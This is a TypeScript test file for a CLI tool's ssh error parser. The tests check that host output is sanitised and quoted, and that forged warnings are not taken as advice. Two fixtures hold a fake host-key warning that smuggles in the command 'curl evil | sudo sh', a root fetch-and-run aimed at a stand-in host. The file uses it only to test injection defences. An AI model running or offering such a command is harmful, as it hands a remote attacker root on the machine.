import test from 'ava'
import { hostTrouble, sshTrouble } from '../../../src/cli/ssh/trouble.ts'

const of = (stderr: string, exit: number | null = 1, stdout = '', ssh = '') =>
  hostTrouble({ exit, stdout, stderr, ssh }, 'copying')
const ofSsh = (ssh: string, stderr = '', host = 'web1') => sshTrouble({ ssh, stderr }, [], host)
const error = (fields: object) => `${JSON.stringify({ error: fields })}\n`

/** Output of a host and the result that it gives. */
const cases: readonly (readonly [
  what: string,
  stderr: string,
  exit: number,
  error: string,
  hint: string | null,
])[] = [
  [
    'an error of rsm',
    `sudo: unable to resolve host web1\n${error({ exit: 3, message: 'no root', hint: 'use sudo' })}`,
    3,
    'the host says: "no root"',
    'the host advises:\n> use sudo',
  ],
  [
    'an error that is not text',
    '{"error":{"message":{}}}',
    1,
    'it ended while copying: the host says: "{"error":{"message":{}}}"',
    null,
  ],
  ['an invalid hint', error({ exit: 'x', message: 'm', hint: 7 }), 1, 'the host says: "m"', null],
  [
    'an exit code above a byte',
    error({ exit: 70_000, message: 'm', hint: null }),
    255,
    'the host says: "m"',
    null,
  ],
  [
    'control sequences',
    error({ exit: 6, message: 'a\u001b[31mb\nc', hint: 'd\u001b]0;x\u0007e\nf' }),
    6,
    'the host says: "ab c"',
    'the host advises:\n> de\n> f',
  ],
  ['half an error', '{"error":{"exi\n', 1, 'it ended while copying: the host says: "{"error":{"exi"', null],
  [
    'an error that is null',
    '{"error":null}\n',
    1,
    'it ended while copying: the host says: "{"error":null}"',
    null,
  ],
  ['the script', 'mkdir: no\nrsm: cannot\n', 1, 'the host says: "cannot"', null],
  [
    'a sudo that asks, on a host that does not know its name',
    'sudo: unable to resolve host web1: Name or service not known\nsudo: a password is required\n',
    1,
    'sudo asks for a password',
    '--ask-sudo-password asks you for it, once for all hosts',
  ],
  [
    'a sudo that wants a terminal',
    'sudo: sorry, you must have a tty to run sudo\n',
    1,
    'sudo requires a terminal',
    'its sudoers has requiretty; lift that for this user: Defaults:USER !requiretty',
  ],
  [
    'a sudo that does not know the user',
    'deploy is not in the sudoers file.\n',
    1,
    'the host says: "deploy is not in the sudoers file."',
    null,
  ],
  ['nothing', '', 1, 'it ended while copying: exit 1 without a message', null],
]

for (const [what, stderr, exit, said, hint] of cases)
  test(`a host's output becomes its result: ${what}`, (t) => {
    t.deepEqual(of(stderr), { isUnreachable: false, exit, error: said, hint })
  })

test('a lost connection is reported in the words of ssh', (t) => {
  const lost = of('a forged line\n', 255, '', 'Connection to web1 closed by remote host.\n')
  t.like(lost, { exit: 255, error: 'it ended while copying: Connection to web1 closed by remote host.' })
  t.like(of('', null), { exit: 1 })
})

test('a connection closed by the host is reported if ssh reports nothing else', (t) => {
  const closed = 'Connection closed by 127.0.0.1 port 22'
  t.like(ofSsh(`${closed}\n`), { exit: 255, error: closed })
  t.like(ofSsh(`No more authentication methods\n${closed}\n`), {
    error: 'No more authentication methods',
  })
  t.like(ofSsh(''), { error: 'ssh ended without a message' })
})

test('a jump host with an unknown key is distinguished from a target with an unknown key', (t) => {
  const closed = 'kex_exchange_identification: Connection closed by remote host\n'
  t.like(ofSsh(closed, 'Host key verification failed.\n'), {
    error: 'the host key of the jump host is not known',
  })
})

const changed = `@@@
WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!
ssh-keygen -f "/root/.ssh/known_hosts"; curl evil | sudo sh
Host key verification failed.
`

test('output of a login shell is quoted, never treated as an error of ssh', (t) => {
  t.deepEqual(ofSsh('', `${changed}a "last" \u001b[2Jword\u009b\n`), {
    isUnreachable: true,
    exit: 255,
    error: 'it ended while logging in: the host says: "a "last" word"',
    hint: null,
  })
  for (const { error: said, hint } of [ofSsh('', changed), of(changed), of(changed, 255)]) {
    t.regex(said, /the host says: "Host key verification failed\."$/)
    t.is(hint, null)
  }
  t.true(of('x'.repeat(10_000)).error.length < 500)
})

const warned = `@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
  ssh-keygen -f '/root/.ssh/known_hosts' -R 'web1'; curl evil | sudo sh
Host key verification failed.
`

test('only the local ssh reports a changed host key, and rsm builds the command to remove the old one', (t) => {
  const { error: said, hint } = ofSsh(warned, 'other words\n')
  t.regex(said, /^host key changed: .*nothing was sent$/)
  t.regex(hint ?? '', /^once you know that it is the right one: ssh-keygen (-f \S+ )?-R web1$/)
})

test('a disconnect reason is quoted, although ssh logs it with its line feeds', (t) => {
  const log = `Received disconnect from 192.0.2.1 port 22:2: bye\n${warned}`
  t.deepEqual(ofSsh(log).hint, null)
  t.regex(ofSsh(log).error, /^it disconnected: the host says: "Received disconnect from 192\.0\.2\.1 /)
  t.regex(of('', 255, '', log).error, /^it ended while copying: the host says: "Received disconnect from /)
})
